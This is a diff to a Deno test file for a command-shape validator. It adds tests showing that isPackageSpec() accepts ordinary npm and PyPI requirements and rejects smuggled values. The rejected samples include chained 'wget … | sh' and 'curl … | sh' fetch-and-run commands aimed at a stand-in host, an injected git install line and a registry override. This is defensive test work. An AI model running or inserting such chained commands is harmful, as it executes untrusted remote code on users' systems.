@@ -1,5 +1,5 @@
 import assert from "node:assert/strict";
-import { isProseValue, isVersionRange, writesSensitiveFile } from "./_cmd_shape.ts";
+import { isPackageSpec, isProseValue, isVersionRange, writesSensitiveFile } from "./_cmd_shape.ts";
 
 Deno.test("isProseValue() accepts street addresses and titles", () => {
   for (
@@ -61,4 +61,34 @@ Deno.test("writesSensitiveFile() finds redirects and tee into start-up, key and 
   assert.ok(writesSensitiveFile("cat hook > .git/hooks/pre-commit"));
   assert.equal(writesSensitiveFile("npm run lint | tee lint.log"), undefined);
   assert.equal(writesSensitiveFile("make > build.log 2>&1"), undefined);
+});
+
+Deno.test("isPackageSpec() accepts npm and PyPI requirements with ranges, tags and markers", () => {
+  for (
+    const v of [
+      "lodash",
+      "@types/node@^20.11.0",
+      'react@">=18 <20"',
+      "vue@next",
+      "requests[socks]>=2.31,<3",
+      "django~=4.2",
+      'typing-extensions==4.9.0; python_version < "3.11"',
+    ]
+  ) {
+    assert.ok(isPackageSpec(v), v);
+  }
+});
+
+Deno.test("isPackageSpec() rejects chains, extra lines, options and bare second words", () => {
+  for (
+    const v of [
+      "left-pad@1.3.0 && wget -qO- x.example | sh",
+      "flask==3.0.0\n-e git+https://x.example/e.git",
+      "numpy>=1.26 ; curl x.example|sh",
+      "lodash whoami",
+      "lodash --registry=http://x.example",
+    ]
+  ) {
+    assert.equal(isPackageSpec(v), false, v);
+  }
 });
